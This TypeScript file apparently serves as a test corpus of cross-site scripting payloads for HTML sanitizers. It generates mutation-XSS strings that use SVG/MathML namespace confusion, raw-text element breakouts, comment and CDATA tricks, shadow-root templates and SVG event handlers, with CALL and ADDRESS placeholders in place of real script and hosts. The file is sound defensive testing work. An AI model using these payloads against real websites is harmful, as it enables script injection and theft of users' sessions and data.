/** What is parsed differently the second time, in another language or after a comment. */
/** Elements whose text is not HTML in some contexts, and is HTML in others. */
const rawTexts =
  "style title textarea noscript xmp iframe noembed noframes plaintext script template select option".split(
    " ",
  );
const worlds: [string, string][] = [
  ["", ""],
  ["<svg>", "</svg>"],
  ["<math>", "</math>"],
  ["<math><mtext>", "</mtext></math>"],
  ["<svg><desc>", "</desc></svg>"],
  ["<svg><foreignobject>", "</foreignobject></svg>"],
  ["<math><annotation-xml encoding=text/html>", "</annotation-xml></math>"],
  ["<math><mtext><table><mglyph>", "</mglyph></table></mtext></math>"],
  ["<form><math><mtext></form><form><mglyph>", "</mglyph></mtext></math></form>"],
];
const bombs = ["<img src=x onerror=CALL>", "<svg onload=CALL>"];

const nested = rawTexts.flatMap((name, index) =>
  worlds.flatMap(([open, close], world) => {
    const bomb = bombs[(index + world) % bombs.length] ?? "";
    return [
      `${open}<${name}><a title="</${name}>${bomb}">x</a></${name}>${close}`,
      `${open}<${name}><!--</${name}>${bomb}--></${name}>${close}`,
    ];
  }),
);

const comments = [
  `<!--><img src=x onerror=CALL>-->`,
  `<!---><img src=x onerror=CALL>-->`,
  `<!--!><img src=x onerror=CALL>-->`,
  `<!-- --!><img src=x onerror=CALL>-->`,
  `<!--<img src="--><img src=x onerror=CALL>">-->`,
  `<![CDATA[<img src=x onerror=CALL>]]>`,
  `<svg><![CDATA[><img src=x onerror=CALL>]]></svg>`,
  `<math><![CDATA[]]><img src=x onerror=CALL></math>`,
  `<?xml version="1.0"?><img src=x onerror=CALL>`,
  `<?php ><img src=x onerror=CALL>?>`,
  `<!ENTITY x "<img src=x onerror=CALL>">&x;`,
  `<!DOCTYPE x [<!ENTITY y SYSTEM "ADDRESS">]>&y;`,
  `<!-- [if IE]><script>CALL</script><![endif]-->`,
  `<comment><img src="</comment><img src=x onerror=CALL>"></comment>`,
  `</p/><img src=x onerror=CALL></ x>`,
  `<//><img src=x onerror=CALL>`,
  `<!><img src=x onerror=CALL>`,
  `<%<img src=x onerror=CALL>%>`,
];

const confusions = [
  `<svg><p><style><g title="</style><img src=x onerror=CALL>">`,
  `<svg></p><style><a id="</style><img src=x onerror=CALL>">`,
  `<math><mi><b><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=CALL src=x>">`,
  `<table><caption><svg><title><table><caption></title><style></style><img src=x onerror=CALL>`,
  `<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=CALL>">`,
  `<math><mtext><option><fake><option></option><mglyph><svg><mtext><style><a title="</style><img src=x onerror=CALL>">`,
  `<div><div><div><div><svg><desc><svg><title><style><img src="</style><img src=x onerror=CALL>">`,
  `<a><svg><a><foreignobject><a><p><img src=x onerror=CALL>`,
  `<table><tr><td><svg><tr><style><img id="</style><img src=x onerror=CALL>">`,
  `<select><template><style><!--</style><a rel="--><iframe/onload=CALL>"></template></select>`,
  `<noscript><style></noscript><img src=x onerror=CALL></style></noscript>`,
  `<template><template shadowrootmode=open><img src=x onerror=CALL></template></template>`,
  `<p><template shadowrootmode=open><script>CALL</script></template></p>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.CALL</script>"></foreignObject></svg>`,
  `<svg><switch><foreignObject><body onload=CALL></foreignObject></switch></svg>`,
  `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>CALL</handler></svg>`,
  `<svg><discard onbegin=CALL>`,
  `<svg><animatetransform onbegin=CALL attributeName=transform dur=1s>`,
  `<svg><filter><feImage href="data:image/svg+xml,<svg onload=CALL>"/></filter></svg>`,
  `<svg><metadata><script>CALL</script></metadata></svg>`,
  `<svg xmlns:x="http://www.w3.org/1999/xhtml"><x:script>CALL</x:script></svg>`,
  `<svg><x:script xmlns:x="http://www.w3.org/2000/svg">CALL</x:script></svg>`,
  `<math><annotation-xml encoding="application/xhtml+xml"><script>CALL</script>`,
  `<math xlink:type=simple xlink:actuate=onLoad xlink:show=replace xlink:href="javascript:CALL">x`,
  `${"<div>".repeat(600)}<img src=x onerror=CALL>`,
  `${"<b><i>".repeat(40)}</b><svg><style><a title="</style><img src=x onerror=CALL>">`,
];

export const nestingPayloads = { nesting: nested, comment: comments, confusion: confusions };
